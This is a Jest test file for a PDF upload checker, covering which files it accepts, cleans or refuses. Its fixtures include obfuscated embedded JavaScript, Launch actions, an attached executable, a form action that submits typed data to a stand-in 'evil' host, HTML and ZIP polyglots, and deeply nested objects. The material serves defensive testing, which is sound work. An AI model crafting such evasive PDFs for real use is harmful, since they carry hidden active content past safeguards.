import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { brought } from '../testing/brought';
import { changed, launching, locked, pdf, plain, scripted, stuffed } from '../testing/pdfs';
import { portrait } from '../testing/images';
import { type JobAnswer } from './job';
import { checkPdf } from './pdf';

const folder = mkdtempSync(join(tmpdir(), 'pdf-'));
afterAll(() => rmSync(folder, { recursive: true }));

const path = join(folder, 'file');
const into = join(folder, 'file.kept');
const check = (bytes: Buffer): Promise<JobAnswer> => {
  writeFileSync(path, bytes);
  rmSync(into, { force: true });
  return checkPdf({ work: 'check', path, maxPages: 20, into });
};
/** Answers the kept form of a PDF that is not kept as it came. */
const kept = async (bytes: Buffer): Promise<Buffer> => {
  expect(await check(bytes)).toEqual({ done: true, written: true });
  return readFileSync(into);
};
const WHOLE = { done: true };

/** As Europass makes them, and with what it does not. */
const europass = ({ script = false, more = '', portfolio = false }): Promise<Buffer> =>
  pdf({
    more: async (document) => {
      await document.attach(Buffer.from('<cv/>'), 'Europass-XML-Attachment.xml', { mimeType: 'application/xml' });
      if (more !== '') await document.attach(Buffer.from('MZ'), more, { mimeType: 'application/octet-stream' });
      if (script) document.addJavaScript('main', 'app.alert("hello")');
      if (portfolio) document.catalog.set(PDFName.of('Collection'), document.context.obj({ View: 'D' }));
    },
  });

describe('a PDF', () => {
  it.all<[string, () => Promise<Buffer> | Buffer]>([
    ['as programs of today write it', () => pdf({ pages: 3 })],
    ['as older programs write it', () => pdf({ pages: 3, packed: false })],
    ['by hand', () => plain()],
    [
      'with links, one to a page about scripts',
      () => plain('/OpenAction << /S /URI /URI (https://example.com/docs/JavaScript/Launch) >>'),
    ],
    [
      'that opens at a page',
      () => pdf({ more: ({ catalog, context }) => catalog.set(PDFName.of('OpenAction'), context.obj(['GoTo'])) }),
    ],
    ['with line ends behind its end', async () => Buffer.concat([await pdf(), Buffer.from('\r\n\n')])],
    ['that was changed and keeps what it was', () => changed(plain(), '3 0 obj << /Type /Page /Rotate 90 >> endobj')],
    ['with twenty pages', () => pdf({ pages: 20 })],
  ])('%s is taken', async (_, make) => {
    expect(await check(await make())).toEqual(WHOLE);
    expect(existsSync(into)).toBe(false);
  });

  it.all<[string, string]>([
    ['a line end', 'leading-newline.pdf'],
    ['a byte order mark', 'leading-mark.pdf'],
    ['zeros up to a whole block', 'zeros-behind.pdf'],
    ['a comment of a mail gateway', 'comment-behind.pdf'],
  ])('with %s around it is kept without', async (_, name) => {
    const document = await kept(brought(name));
    expect(document.subarray(0, 5).toString()).toBe('%PDF-');
    expect(document.toString('latin1')).toMatch(/%%EOF\s{0,2}$/);
    expect(await check(document)).toEqual(WHOLE);
  });

  it.holds('V5.2.2b')('that has its data for programs attached, as Europass makes them, is kept without', async () => {
    const document = await kept(brought('europass.pdf'));
    expect(document.toString('latin1')).not.toMatch(/Europass-XML|EmbeddedFile|Filespec/);
    expect(await check(document)).toEqual(WHOLE);
    expect((await PDFDocument.load(document)).getPageCount()).toBe(1);
  });

  it('that only forbids to copy is kept without that', async () => {
    const document = await kept(brought('owner-password.pdf'));
    expect(document.includes('/Encrypt')).toBe(false);
    expect(await check(document)).toEqual(WHOLE);
  });

  it.holds('V5.2.2b').all<[string, () => Promise<Buffer> | Buffer]>([
    ['with a script', () => scripted()],
    ['with a script in clear', () => scripted(false)],
    ['that starts a program', () => launching()],
    ['that starts a program in clear', () => launching(false)],
    ['with a file inside', () => stuffed()],
    ['with a script on a page', () => plain('', '9 0 obj << /AA << /O << /S /JavaScript /JS (x) >> >> >> endobj')],
    ['whose script is spelled by numbers', () => plain('/OpenAction << /#53 /J#61vaScrip#74 /#4a#53 (x) >>')],
    [
      'whose script stands in pieces with comments between them',
      () => plain('/OpenAction << /S % nothing here\n/JavaScript /JS (x) >>'),
    ],
    [
      'whose script is in an earlier version of an object',
      () =>
        changed(plain('/OpenAction 9 0 R', '9 0 obj << /K [<< /JS (app.alert) >>] >> endobj'), '9 0 obj << >> endobj'),
    ],
    [
      'whose script stands in the middle of a stream, for a reader that is told to look there',
      () => {
        const hidden = '9 0 obj << /S /JavaScript /JS (x) >> endobj';
        return plain('', `8 0 obj << /Length ${hidden.length} >> stream\n${hidden}\nendstream endobj`);
      },
    ],
    [
      'whose script is packed with other objects',
      () => {
        const packed = deflateSync(Buffer.from('9 0 << /S /JavaScript /JS (x) >>')).toString('latin1');
        const dict = `/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length}`;
        return plain('/OpenAction 9 0 R', `8 0 obj << ${dict} >> stream\n${packed}\nendstream endobj`);
      },
    ],
    ['that sends what is typed', () => plain('', '9 0 obj << /A << /S /SubmitForm /F (https://evil) >> >> endobj')],
    ['with a form of another language', () => plain('/AcroForm << /XFA [(a) 9 0 R] >>')],
    ['whose field checks a date by a script', () => brought('date-field.pdf')],
    ['with data for programs and a script', () => europass({ script: true })],
    ['with data for programs and another file', () => europass({ more: 'cv.exe' })],
    ['that shows its files in place of pages', () => europass({ portfolio: true })],
    [
      'with a script, that only forbids to copy',
      () =>
        pdf({
          more: (document) => {
            document.addJavaScript('main', 'app.alert("hello")');
            document.encrypt({ ownerPassword: 'x', userPassword: '' });
          },
        }),
    ],
  ])('%s is refused', async (_, make) => {
    expect(await check(await make())).toEqual({ fault: 'active' });
  });

  it.holds('V5.2.2b')(
    'with a password is told from a broken one, and is taken where it may be read without',
    async () => {
      for (const bytes of [await locked(), brought('user-password.pdf')])
        expect(await check(bytes)).toEqual({ fault: 'encrypted' });
      const open = await pdf({ more: (document) => document.encrypt({ ownerPassword: 'x', userPassword: '' }) });
      expect(await check(await kept(open))).toEqual(WHOLE);
    },
  );

  it.holds('V5.2.2b').all<[string, () => Promise<Buffer> | Buffer]>([
    ['cut off in the middle', async () => (await pdf({ pages: 5 })).subarray(0, 900)],
    ['without its end', async () => (await pdf()).subarray(0, -8)],
    ['that only begins like one', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5_000, 65)])],
    ['without a page', () => Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF')],
    ['that is also a page', async () => Buffer.concat([await pdf(), Buffer.from('<script>alert(1)</script>')])],
    ['that is also an archive', async () => Buffer.concat([await pdf(), Buffer.from('PK\x03\x04evil.html')])],
    [
      'that is also an archive, far behind zeros',
      async () => Buffer.concat([await pdf(), Buffer.alloc(4_000), Buffer.from('PK\x03\x04evil.html')]),
    ],
    [
      'that is also a page, behind a comment',
      async () => Buffer.concat([await pdf(), Buffer.from('% saved\n<script>alert(1)</script>')]),
    ],
    [
      'that is also an archive, in a comment',
      async () => Buffer.concat([await pdf(), Buffer.from('%PK\x03\x04evil.html')]),
    ],
    ['that begins like a page', async () => Buffer.concat([Buffer.from('<html>'), await pdf()])],
    ['that is an image', () => portrait('jpeg')],
    ['whose objects are nested without end', () => plain('', `9 0 obj ${'['.repeat(200_000)} endobj`)],
    ['with an object that is none', () => plain('', '9 0 obj << /A ')],
  ])('%s is refused as broken', async (_, make) => {
    expect(await check(await make())).toEqual({ fault: 'broken' });
  });

  it('whose tree of pages goes in circles is counted once', async () => {
    const circle = plain().toString('latin1').replace('/Kids [3 0 R]', '/Kids [2 0 R 3 0 R 3 0 R]');
    expect(await check(Buffer.from(circle, 'latin1'))).toEqual(WHOLE);
  });

  it('with more pages than are taken is refused', async () => {
    expect(await check(await pdf({ pages: 21 }))).toEqual({ fault: 'pages' });
  });

  it('with a title that speaks of scripts is taken', async () => {
    const talked = await pdf({
      packed: false,
      more: ({ catalog }) => catalog.set(PDFName.of('Lang'), PDFString.of('JavaScript and Launch')),
    });
    expect(await check(talked)).toEqual(WHOLE);
  });
});
